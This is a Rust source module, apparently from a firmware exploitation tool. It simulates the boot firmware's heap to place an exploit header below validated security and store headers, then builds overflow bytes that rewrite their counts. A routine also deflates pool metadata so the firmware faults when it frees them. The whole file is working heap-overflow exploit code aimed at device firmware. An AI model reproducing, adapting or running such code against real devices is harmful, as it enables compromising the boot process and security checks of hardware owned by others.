//! Predicted placement of the firmware's header buffers for one attempt, and
//! construction of the bytes that overflow from the exploit header into the
//! validated headers above it.
//!
//! The firmware keeps validated copies of the security header (L1) and of
//! the store header (L2) and then receives the exploit header (E). Since the
//! heap grows downward, E sits below L2 and L1, separated from them by the
//! gap. Overflowing E upward rewrites the counts of L1 and L2 while the
//! tables they describe are read out of E.

use crate::{
    header::{patch_security, patch_store, read_u32, security, store, HeaderTemplate},
    heap::{align_up, Allocation, DeclaredSize, HeapError, MemorySimulator},
    profile::ExploitParameters,
};

/// Device buffers that may be allocated ahead of the headers.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct Prelude {
    pub async_buffer_count: u32,
    pub async_buffer_size: u32,
    /// Zero when the backup partition is unknown.
    pub backup_buffer_size: u32,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ForgedLayout {
    pub security: Allocation,
    pub store: Allocation,
    /// Untracked memory between the validated headers and E.
    pub gap: Option<Allocation>,
    pub exploit: Allocation,
}

impl ForgedLayout {
    /// Replays the allocations of one boot cycle on a freshly reset
    /// simulator, in the order the firmware makes them.
    pub fn replay(
        sim: &mut MemorySimulator,
        template: &HeaderTemplate,
        parameters: &ExploitParameters,
        prelude: &Prelude,
    ) -> Result<Self, HeapError> {
        sim.reset();

        if parameters.allocate_async_buffers_first {
            for _ in 0..prelude.async_buffer_count {
                sim.allocate_pool(prelude.async_buffer_size)?;
            }
        }
        if parameters.allocate_backup_buffers_first && prelude.backup_buffer_size > 0 {
            sim.allocate_pages(prelude.backup_buffer_size)?;
        }

        let chunk = template.chunk_size();
        let security_len = region_len(template.security().len(), chunk)?;
        let store_len = region_len(template.store().len(), chunk)?;

        let security = sim.allocate_pool(security_len)?;
        let (store, gap) = if parameters.assume_second_header_falls_in_gap
            && parameters.gap_fill_size > 0
        {
            // L2 takes the top of the gap, the rest is filled behind it.
            let gap = sim.allocate_pages(parameters.gap_fill_size)?;
            sim.free_pages(&gap)?;
            let store = sim.allocate_pool(store_len)?;
            let rest = gap.total.len().saturating_sub(store.total.len());
            let filler = if rest > 0 {
                Some(sim.allocate_pages(rest)?)
            } else {
                None
            };
            (store, filler)
        } else {
            let store = sim.allocate_pool(store_len)?;
            let gap = if parameters.gap_fill_size > 0 {
                Some(sim.allocate_pages(parameters.gap_fill_size)?)
            } else {
                None
            };
            (store, gap)
        };
        let exploit = sim.allocate_pool(parameters.header_allocation_size)?;

        tracing::debug!(
            "L1 at {:#010x}, L2 at {:#010x}, E at {:#010x}, overflow of {:#x} bytes",
            security.total.start,
            store.total.start,
            exploit.total.start,
            security.total.end - exploit.content.start + 1
        );
        Ok(ForgedLayout {
            security,
            store,
            gap,
            exploit,
        })
    }

    /// Bytes from the start of E's content to the end of L1.
    pub fn overflow_len(&self) -> usize {
        (self.security.total.end - self.exploit.content.start + 1) as usize
    }

    /// Capacity of E's content.
    pub fn capacity(&self) -> usize {
        self.exploit.content.len() as usize
    }

    /// Writes one phase into the simulated heap and returns the overflow
    /// that reproduces it on the device.
    ///
    /// `stream` is the phase's header stream, it is placed at the start of
    /// E. The counts it declares are copied into the validated headers.
    pub fn forge(
        &self,
        sim: &mut MemorySimulator,
        template: &HeaderTemplate,
        stream: &[u8],
    ) -> Result<Vec<u8>, HeapError> {
        if stream.len() > self.capacity() {
            return Err(HeapError::OutOfRange(self.exploit.content.start, stream.len()));
        }

        let hash_bytes = read_u32(stream, security::HASH_TABLE_SIZE);
        let store_offset = template.store_offset(hash_bytes as usize);
        let count = read_u32(stream, store_offset + store::DESCRIPTOR_COUNT);
        let length = read_u32(stream, store_offset + store::DESCRIPTOR_LENGTH);

        let mut content = vec![0u8; self.capacity()];
        content[..stream.len()].copy_from_slice(stream);
        sim.write(self.exploit.content.start, &content)?;

        let mut content = vec![0u8; self.security.content.len() as usize];
        content[..template.security().len()].copy_from_slice(template.security());
        patch_security(&mut content, hash_bytes);
        sim.write(self.security.content.start, &content)?;

        let mut content = vec![0u8; self.store.content.len() as usize];
        content[..template.store().len()].copy_from_slice(template.store());
        patch_store(&mut content, count, length);
        sim.write(self.store.content.start, &content)?;

        for allocation in [&self.exploit, &self.store, &self.security] {
            sim.write_pool_metadata(allocation, DeclaredSize::True)?;
        }
        self.overflow(sim)
    }

    /// Deflates the metadata of L1 and L2 so the firmware faults when it
    /// frees them, and returns the overflow carrying it.
    pub fn deflate(&self, sim: &mut MemorySimulator) -> Result<Vec<u8>, HeapError> {
        sim.write_pool_metadata(&self.security, DeclaredSize::Deflated)?;
        sim.write_pool_metadata(&self.store, DeclaredSize::Deflated)?;
        self.overflow(sim)
    }

    /// Frees E and allocates it again, as the firmware does between two
    /// headers of the same boot cycle.
    pub fn reallocate_exploit(&mut self, sim: &mut MemorySimulator) -> Result<(), HeapError> {
        let size = self.exploit.content.len();
        sim.free_pool(&self.exploit)?;
        let exploit = sim.allocate_pool(size)?;
        if exploit != self.exploit {
            tracing::warn!(
                "exploit header moved from {:#010x} to {:#010x}",
                self.exploit.total.start,
                exploit.total.start
            );
        }
        self.exploit = exploit;
        Ok(())
    }

    fn overflow(&self, sim: &MemorySimulator) -> Result<Vec<u8>, HeapError> {
        sim.read(self.exploit.content.start, self.overflow_len())
    }
}

/// Header regions are received chunk padded.
fn region_len(len: usize, chunk: u32) -> Result<u32, HeapError> {
    let len = u32::try_from(len).map_err(|_| HeapError::InvalidSize(u32::MAX))?;
    align_up(len, chunk).ok_or(HeapError::InvalidSize(len))
}
